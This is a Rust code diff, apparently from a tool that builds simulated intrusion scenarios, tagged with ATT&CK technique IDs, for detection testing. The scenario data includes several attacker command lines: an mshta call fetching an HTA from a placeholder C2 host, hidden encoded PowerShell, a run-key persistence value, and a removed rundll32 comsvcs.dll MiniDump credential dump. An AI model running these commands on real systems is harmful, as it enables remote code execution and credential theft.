@@ -3,13 +3,12 @@
 
 use palisade_model::{ObservableKind, Vector};
 
-use crate::acts::{
-    SYSTEM, connect, directory_access, looked_up, script, service, set_value, signed_in, wrote,
-};
+use crate::acts::{SYSTEM, connect, directory_access, script, service, set_value, signed_in, wrote};
 use crate::cloud::{AT_DESK, Cloud, SignIn, m365, risk, sign_in};
 use crate::plan::Plan;
 use crate::scenario::decoys::{self, Grounds};
-use crate::scenario::programs::{CMD, MSHTA, POWERSHELL, REMOTE, RUNDLL, WMI, WORD};
+use crate::scenario::moves::{self, Server};
+use crate::scenario::programs::{CMD, MSHTA, POWERSHELL, REMOTE, WMI, WORD};
 use crate::scenario::{ScenarioInfo, Scene, rules};
 use crate::truth::ActorProfile;
 use crate::world::{Role, World, address};
@@ -100,7 +99,10 @@ fn plant(p: &mut Plan<'_>) {
     let word = p.standing(desk, &victim.windows, WORD);
     let mshta = p.run(desk, &word, MSHTA, &format!("mshta.exe https://{c2}/notice.hta"));
     p.step(1_503, "it looks up its server", &["T1071.001"], &[]);
-    p.on(desk, looked_up(&mshta, &c2, &c2_ip));
+    let home = Server { name: c2.clone(), ip: c2_ip.clone() };
+    moves::looks_up(p, desk, &mshta, &home);
+    p.step(1_506, "it reaches its server", &["T1071.001"], &[rules::SCRIPT_OUT]);
+    moves::reaches(p, desk, &mshta, &home);
     p.step(1_520, "PowerShell, hidden and encoded", &["T1059.001", "T1027.010"], &[rules::ENCODED]);
     let line = "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=";
     let shell = p.run(desk, &mshta, POWERSHELL, line);
@@ -113,10 +115,8 @@ fn plant(p: &mut Plan<'_>) {
     p.on(desk, set_value(&shell, &key, "powershell -w hidden -f C:\\Users\\Public\\meter.ps1"));
 
     p.phase(95, 13);
-    p.step(0, "passwords dumped from memory", &["T1003.001", "T1218.011"], &[rules::COMSVCS]);
-    let cmd = p.standing(desk, &victim.windows, CMD);
-    let dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\m.bin full";
-    p.run(desk, &cmd, RUNDLL, dump);
+    // The helper had just worked at this desk: from here on it goes under the helper's name.
+    moves::dump_memory(p, 0, desk, &helper.windows);
 
     p.phase(190, 19);
     p.step(0, "a helper's account signs in to the file server from the desk", &["T1078.002"], &[]);
